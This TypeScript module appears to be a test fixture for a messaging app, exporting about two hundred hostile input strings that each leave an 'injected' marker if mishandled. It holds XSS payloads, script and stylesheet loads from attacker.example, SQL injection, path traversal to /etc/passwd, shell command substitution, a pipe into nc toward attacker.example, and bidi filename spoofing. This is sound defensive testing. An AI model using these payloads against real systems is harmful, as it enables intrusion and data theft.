/** Two hundred texts that a contact or a server could send, made to become something they must not. */

/** What every one of them would leave behind if it were taken for more than text. */
export const MARK = 'injected';

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter'];
const TAGS = ['img', 'svg', 'video', 'audio', 'body', 'input', 'details', 'iframe', 'object', 'embed', 'marquee', 'math'];
const RUN = `window.${MARK}=1`;
const FETCH = 'https://attacker.example/x';

const handlers = TAGS.flatMap((tag) => HANDLERS.slice(0, 6).map((handler) => `<${tag} src=x ${handler}="${RUN}" data-${MARK}>`));

const html = [
  `<script>${RUN}</script>`,
  `<script src="${FETCH}.js"></script>`,
  `<SCRIPT>${RUN}</SCRIPT >`,
  `"><script>${RUN}</script>`,
  `'><${MARK}>`,
  `</title><${MARK}>`,
  `</textarea><${MARK}>`,
  `</style><${MARK}>`,
  `<style>*{background:url(${FETCH})}</style>`,
  `<style>@import '${FETCH}.css';</style>`,
  `<link rel=stylesheet href="${FETCH}.css" data-${MARK}>`,
  `<meta http-equiv=refresh content="0;url=${FETCH}" data-${MARK}>`,
  `<base href="${FETCH}/" data-${MARK}>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>" data-${MARK}></iframe>`,
  `<object data="${FETCH}" data-${MARK}></object>`,
  `<form action="${FETCH}" data-${MARK}><button>Enviar</button></form>`,
  `<a href="${FETCH}" ping="${FETCH}" data-${MARK}>hola</a>`,
  `<img srcset="${FETCH} 2x" data-${MARK}>`,
  `<picture><source srcset="${FETCH}" data-${MARK}></picture>`,
  `<template><${MARK}></${MARK}></template>`,
  `<b onclick="${RUN}" data-${MARK}>negrita</b>`,
  `<!--><${MARK}>-->`,
  `<![CDATA[<${MARK}>]]>`,
  `<?xml version="1.0"?><${MARK}/>`,
  `&lt;${MARK}&gt;`,
  `&#60;${MARK}&#62;`,
  `&#x3C;${MARK}&#x3E;`,
  `%3C${MARK}%3E`,
  `\\u003c${MARK}\\u003e`,
  `\\x3c${MARK}\\x3e`,
  `<${MARK}\u0000>`,
  `<\u0000${MARK}>`,
];

const svg = [
  `<svg onload="${RUN}" data-${MARK}/>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="${FETCH}#a" data-${MARK}/></svg>`,
  `<svg><image href="${FETCH}" data-${MARK}/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x data-${MARK}/></svg>`,
  `<svg><foreignObject><${MARK}/></foreignObject></svg>`,
  `<math><mtext><${MARK}></mtext></math>`,
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+`,
  `file:///etc/passwd`,
  `blob:${FETCH}`,
  `[clic](javascript:${RUN})`,
  `![foto](${FETCH}.png)`,
  `<javascript:${RUN}>`,
  `https://attacker.example/"onmouseover="${RUN}"`,
  `https://attacker.example/'><${MARK}>`,
  `https://user:pass@attacker.example/?q=<${MARK}>`,
  `condorito://abrir?x=<${MARK}>`,
];

const templates = [
  `{${RUN}}`,
  `{@html '<${MARK}>'}`,
  `{#if true}<${MARK}>{/if}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `$&$1$\`$'`,
  `%s%n%x%d`,
  `{name} {count} {reason}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `-var(--x); background:url(${FETCH})`,
  `#fff;background:url(${FETCH})`,
  `url(${FETCH})`,
  `expression(${RUN})`,
  `red" data-${MARK}="`,
  `' data-${MARK}='`,
  `" autofocus onfocus="${RUN}`,
  `' OR 1=1 --`,
  `'; DROP TABLE messages; --`,
  `../../../../etc/passwd`,
  `$(touch /tmp/${MARK})`,
  `\`touch /tmp/${MARK}\``,
  `| nc attacker.example 1`,
];

const marks = [
  `*<${MARK}>*`,
  `_<img src=x onerror=${RUN} data-${MARK}>_`,
  `~</del><${MARK}>~`,
  `\`<${MARK}>\``,
  `\`\`\`</pre><${MARK}>\`\`\``,
  `*_~\`${'*_~`'.repeat(50)}`,
  `> <${MARK}>`,
  `# <${MARK}>`,
  `- [ ] <${MARK}>`,
  `| a | <${MARK}> |`,
];

const odd = [
  '\u202Egnp.exe\u202C foto',
  '\u202E\u202E\u202Etxet',
  '\u2066\u2067\u2068\u2069',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe',
  '\u200B'.repeat(300),
  '\u0301'.repeat(400),
  `Z${'\u0489\u0334\u035c'.repeat(120)}`,
  '\u001B[31mrojo\u001B[0m\u0007',
  '\u001B]8;;https://attacker.example\u0007clic\u001B]8;;\u0007',
  '\b\b\b\b\r\rborrado',
  '\uD800',
  '\uDC00x\uD83D',
  '\uFFFE\uFFFF',
  '\u0000\u0001\u0002\u0003',
  '\u2028línea\u2029párrafo',
  '\n\n\n\n\n\n\n\n\n\n',
  ' \t\u00A0\u3000 ',
  'ﷺ'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(60),
  '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  'A'.repeat(20_000),
  'palabra '.repeat(2_000),
  `${'<b>'.repeat(500)}`,
  `${'('.repeat(2_000)}`,
  `${'*'.repeat(2_000)}`,
  `https://a.example/${'x'.repeat(3_000)}`,
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '-1',
  '1e309',
  '٠١٢٣',
];

export const INJECTIONS: readonly string[] = [...html, ...svg, ...addresses, ...templates, ...marks, ...odd, ...handlers].slice(0, 200);
